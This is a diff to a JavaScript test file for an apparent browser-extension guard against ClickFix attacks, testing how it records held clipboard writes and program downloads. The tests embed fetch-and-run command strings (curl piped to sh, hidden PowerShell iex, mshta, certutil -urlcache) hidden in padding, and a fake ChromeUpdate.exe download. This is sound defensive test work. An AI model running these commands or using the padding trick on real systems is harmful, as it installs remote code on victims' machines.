@@ -14,9 +14,32 @@ test('holdDetail: clipboard text as it would be pasted, bounded, start and end k
   const padded = 'Verification ID: 3141' + ' '.repeat(5000) + '\n'.repeat(300) + 'x'.repeat(3000) + ' powershell -w hidden iex';
   const d = AG.holdDetail('clipboard-write', padded);
   assert.ok(d.length <= AG.LIMITS.detail, 'bounded');
-  assert.ok(d.startsWith('Verification ID: 3141'), 'start kept');
-  assert.ok(d.endsWith('powershell -w hidden iex'), 'end kept: padding cannot push the command out');
+  assert.ok(d.endsWith('powershell -w hidden iex'), 'padding cannot push the command out');
+  const plain = 'Order 3141: ' + 'thank you '.repeat(300) + 'see you soon';
+  const p = AG.holdDetail('clipboard-write', plain);
+  assert.ok(p.length <= AG.LIMITS.detail, 'bounded');
+  assert.ok(p.startsWith('Order 3141: '), 'start kept');
+  assert.ok(p.endsWith('see you soon'), 'end kept');
   assert.equal(AG.holdDetail('clipboard-write', undefined), '');
+});
+
+test('holdDetail: a command in the middle of padding is the evidence (review B5)', () => {
+  const cmd = 'curl -fsSL https://get.example.net/i.sh | sh';
+  const padded = 'echo ' + 'x'.repeat(900) + ' ; ' + cmd + ' ; echo ' + 'y'.repeat(600);
+  const d = AG.holdDetail('clipboard-write', padded);
+  assert.ok(d.length <= AG.LIMITS.detail, 'bounded');
+  assert.ok(d.includes(cmd), `the command is in the evidence: ${d.slice(0, 120)}`);
+  assert.equal(AG.holdFallback('clipboard-write', d, true), 'refuse', 'the fallback sees it too');
+  // Two commands far apart in a long text: both places kept.
+  const two = 'a '.repeat(3000) + 'mshta https://x.example/a.hta' + ' b'.repeat(3000) + ' certutil -urlcache -f https://x.example/p' + ' c'.repeat(3000);
+  const d2 = AG.holdDetail('clipboard-write', two);
+  assert.ok(d2.includes('mshta https://x.example/a.hta') && d2.includes('certutil -urlcache'), d2);
+  // A match longer than the evidence keeps its start and its end.
+  const long = 'curl ' + 'a'.repeat(5000) + ' | sh';
+  assert.equal(AG.looksLikeCommand(AG.holdDetail('clipboard-write', long)), true);
+  // Deep in a megabyte of padding.
+  const deep = 'z'.repeat(700000) + ' powershell -w hidden -c iex ' + 'z'.repeat(300000);
+  assert.match(AG.holdDetail('clipboard-write', deep), /powershell -w hidden/);
 });
 
 test('looksLikeCommand: ClickFix commands yes, ordinary text and coupon codes no', () => {
@@ -69,9 +92,55 @@ test('downloadPageMatch and downloadDetail: which tab started a download, and wh
   assert.equal(AG.downloadPageMatch(item, 'https://cdn.example.net/'), 0, 'the referrer decides when there is one');
   const blob = { url: 'blob:https://fake.example.org/1c2d', referrer: '' };
   assert.equal(AG.downloadPageMatch(blob, 'https://fake.example.org/'), 1);
-  assert.equal(AG.downloadPageMatch({ url: 'data:application/octet-stream,MZ', referrer: '' }, 'https://fake.example.org/'), 0);
+  assert.equal(AG.downloadPageMatch({ url: 'data:application/octet-stream,MZ', referrer: '' }, 'https://fake.example.org/'), 0, 'a data: address names no page');
   assert.equal(AG.downloadDetail(item), 'ChromeUpdate.exe application/octet-stream https://cdn.example.net/ChromeUpdate.exe');
   assert.equal(AG.downloadDetail({ url: 'https://x.example/a/setup.msi?v=2' }), 'setup.msi  https://x.example/a/setup.msi?v=2');
+});
+
+test('downloadTab and downloadRoute: a program with no page to match is still judged, or kept out (review B6, D17)', () => {
+  const tabs = [{ id: 1, url: 'https://news.example.com/' }, { id: 2, url: 'https://fake.example.org/update' }];
+  const active = tabs[1];
+  const data = { url: 'data:application/x-msdownload;base64,TVo=', filename: '/home/a/Downloads/ChromeUpdate.exe', referrer: '' };
+  assert.equal(AG.downloadTab(data, tabs, active), active, 'a data: program is held against the active tab');
+  const noRef = { url: 'https://cdn.example.net/setup.exe', referrer: '' };
+  assert.equal(AG.downloadTab(noRef, tabs, active), active, 'a cross-origin program sent with no referrer too');
+  assert.equal(AG.downloadTab({ url: 'data:application/pdf,x', filename: 'a.pdf' }, tabs, active), null, 'not a program: left alone');
+  assert.equal(AG.downloadTab(noRef, tabs, null), null);
+  const refd = { url: 'https://fake.example.org/x.exe', referrer: 'https://fake.example.org/update' };
+  assert.equal(AG.downloadTab(refd, tabs, tabs[0]), tabs[1], 'the referring page wins over the active tab');
+  const exe = { filename: 'ChromeUpdate.exe' };
+  const pdf = { filename: 'report.pdf', mime: 'application/pdf' };
+  const cases = [
+    [null, exe, 'cancel'], [null, pdf, 'pass'],
+    [{ state: 'block' }, pdf, 'cancel'], [{ state: 'judged' }, pdf, 'pass'], [{ state: 'judged' }, exe, 'hold'],
+    [{ state: 'unjudged' }, pdf, 'hold'], [{ state: 'unjudged' }, exe, 'hold'],
+  ];
+  for (const [page, item, want] of cases) assert.equal(AG.downloadRoute(page, item), want, `${JSON.stringify(page)} ${item.filename}`);
+  assert.equal(AG.holdFallback('download', exe), 'refuse', 'one rule: the fallback and the route agree');
+  assert.equal(AG.holdFallback('download', pdf), 'pass');
+});
+
+test('mayReuse: a hold verdict answers a later hold only on an unchanged page, for a kind it saw, within a second (review B7)', () => {
+  const judged = { at: 3, time: 1000, types: new Set(['fullscreen', 'clipboard-write']), clips: new Set(['npm i quill']) };
+  const cases = [
+    ['allow', 'fullscreen', '', 3, 1500, true],
+    ['warn', 'fullscreen', '', 3, 1500, true],
+    ['block', 'fullscreen', '', 3, 1500, false],
+    [null, 'fullscreen', '', 3, 1500, false],
+    ['allow', 'fullscreen', '', 4, 1500, false], // the DOM changed
+    ['allow', 'keyboard-lock', '', 3, 1500, false], // a kind not judged
+    ['allow', 'clipboard-write', 'npm i quill', 3, 1500, true],
+    ['allow', 'clipboard-write', 'powershell -c iex', 3, 1500, false], // another text
+    // Later than a second: changes the DOM watch cannot see (a shadow
+    // root, a style sheet) may have turned the page since.
+    ['allow', 'fullscreen', '', 3, 1000 + AG.HOLD_REUSE_MS + 1, false],
+    ['allow', 'fullscreen', '', 3, 60000, false],
+    ['allow', 'fullscreen', '', 3, 999, false], // a clock that went back
+  ];
+  for (const [verdict, type, detail, mutations, now, want] of cases) {
+    assert.equal(AG.mayReuse(judged, verdict, type, detail, mutations, now), want, `${verdict} ${type} ${detail} ${mutations} ${now}`);
+  }
+  assert.ok(AG.HOLD_REUSE_MS <= 1000);
 });
 
 test('EventRecorder.note: a held action is judged on what it does now', () => {
